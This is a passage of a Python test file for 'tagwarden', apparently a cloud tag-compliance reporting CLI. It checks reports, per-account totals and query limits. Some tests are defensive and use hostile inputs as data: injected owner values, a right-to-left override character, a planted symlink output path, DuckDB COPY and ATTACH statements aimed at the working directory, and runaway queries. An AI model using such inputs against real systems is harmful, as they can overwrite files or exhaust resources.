    assert json.loads(hostile["tags"])["Team"] == HOSTILE_TEAM


class _Text(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.owners: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "section":
            self.owners.append(dict(attrs).get("data-owner") or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_report_html_has_a_trend_of_every_run_and_owners_as_text(runs_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    assert (
        tagwarden(
            ["report", "--local", str(runs_dir), "--run", "run-c", "--format", "html", "--out", str(out)]
        )
        == 0
    )
    page = out.read_text(encoding="utf-8")
    parsed = _Text(page)
    assert page.count('class="point"') == len(RUNS)  # the dry run is not part of the trend
    assert not {"script", "img"} & set(parsed.tags)
    expected_owners = {
        (f["owner"] or "").strip() or "(no owner)"
        for f in findings_of(runs_dir, "run-c")
        if not f["compliant"]
    }
    assert set(parsed.owners) == expected_owners
    text = "".join(parsed.text)
    assert HOSTILE_OWNER in text and HOSTILE_NAME in text


def test_report_table_prints_totals_and_owner_groups(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden(["report", "--local", str(runs_dir), "--run", "run-c"]) == 0
    out = capsys.readouterr().out
    totals = summary_of(runs_dir, "run-c")["totals"]
    assert "Run run-c" in out and f"{totals['compliance_percentage']}%" in out
    unowned = [f for f in findings_of(runs_dir, "run-c") if not f["compliant"] and not f["owner"]]
    assert {f["account_id"] for f in unowned} == {ACCOUNT}
    assert f"(no owner) ({len(unowned)} noncompliant)" in out
    # Volumes and snapshots: a table per resource type, and the untagged EBS line.
    gib = sum(
        f["size_gib"] for f in findings_of(runs_dir, "run-c") if not f["compliant"] and f.get("size_gib")
    )
    assert "By resource type" in out and f"Untagged EBS: {gib} GiB noncompliant" in out
    # Two accounts: a per-account table, and the noncompliant instances under each account.
    findings = findings_of(runs_dir, "run-c")
    for account in (ACCOUNT, SECOND_ACCOUNT):
        mine = [f for f in findings if f["account_id"] == account]
        bad = sum(not f["compliant"] for f in mine)
        assert f"Account {account}: {bad} noncompliant" in out
        row = next(line for line in out.splitlines() if line.startswith(f"│ {account} "))
        assert [c.strip() for c in row.strip("│").split("│")] == [
            account,
            str(len(mine)),
            str(bad),
            str(percentage(len(mine) - bad, len(mine))),
        ]
    assert out.index("By account") < out.index("By region") < out.index(f"Account {ACCOUNT}:")
    assert "\u202e" not in out and "payments\\u202e" not in out  # the Team tag is not in the table


@pytest.mark.parametrize(
    "argv",
    [
        ["report", "--format", "csv"],
        ["report", "--format", "html"],
        ["query", "noncompliant_by_rule", "--format", "csv"],
    ],
    ids=["report-csv", "report-html", "query-csv"],
)
def test_report_and_query_out_never_write_through_a_planted_link(
    runs_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    link = tmp_path / "out.file"
    link.symlink_to(precious)
    assert tagwarden([*argv, "--local", str(runs_dir), "--out", str(link)]) == 2
    assert capsys.readouterr().err == f"--out: {link} is a symbolic link; refusing to write through it\n"
    assert precious.read_text() == "keep me"
    real = tmp_path / "real.file"
    assert tagwarden([*argv, "--local", str(runs_dir), "--out", str(real)]) == 0
    assert real.stat().st_size > 0


def test_raw_sql_cannot_write_or_attach_under_the_working_directory(
    runs_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """DuckDB always allows its temporary directory (``<cwd>/.tmp`` by default): it is private now."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    private = tmp_path / "private-tmp"
    private.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(private))
    for sql in (
        "COPY findings TO '.tmp/x.csv'",
        "ATTACH '.tmp/x.db' AS x",
        "SELECT * FROM read_csv('.tmp/x.csv')",
    ):
        assert tagwarden(["query", sql, "--local", str(runs_dir)]) == 2
        [line] = capsys.readouterr().err.splitlines()
        assert line.startswith("query: Permission Error: Cannot access file"), line
    assert list(cwd.iterdir()) == []
    assert list(private.iterdir()) == []  # the connection's own temporary folder is removed with it


def test_a_query_is_stopped_at_its_time_limit_with_one_line(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    endless = "SELECT sum(hash(i)) FROM range(100000000000) t(i)"
    assert tagwarden(["query", endless, "--local", str(runs_dir), "--timeout", "1"]) == 2
    assert capsys.readouterr().err == (
        "query: stopped after 1 s, the time limit of a query (--timeout SECONDS to allow more)\n"
    )


def test_a_query_runs_under_a_memory_limit_it_cannot_change(
    runs_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["--local", str(runs_dir), "--format", "json", "--memory-limit", "256MB"]
    assert tagwarden(["query", "SELECT current_setting('memory_limit') AS m", *argv]) == 0
    assert json.loads(capsys.readouterr().out) == [{"m": "244.1 MiB"}]
    assert tagwarden(["query", "SET memory_limit = '100GB'", *argv]) == 2
    assert "the configuration has been locked" in capsys.readouterr().err
    hungry = "SELECT length(string_agg(i::VARCHAR, ',')) FROM range(50000000) t(i)"
    assert tagwarden(["query", hungry, *argv]) == 2
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("query: needs more than the memory limit (256MB, --memory-limit)"), line
    assert tagwarden(["query", "SELECT 1", "--local", str(runs_dir), "--memory-limit", "lots"]) == 2
    assert capsys.readouterr().err.startswith("--memory-limit: ")


def test_the_cli_defaults_of_the_query_limits_are_the_backends() -> None:
    from workflow import cli_local_ops, local_query

    assert cli_local_ops.DEFAULT_TIMEOUT_SECONDS == local_query.DEFAULT_TIMEOUT_SECONDS
    assert cli_local_ops.DEFAULT_MEMORY_LIMIT == local_query.DEFAULT_MEMORY_LIMIT
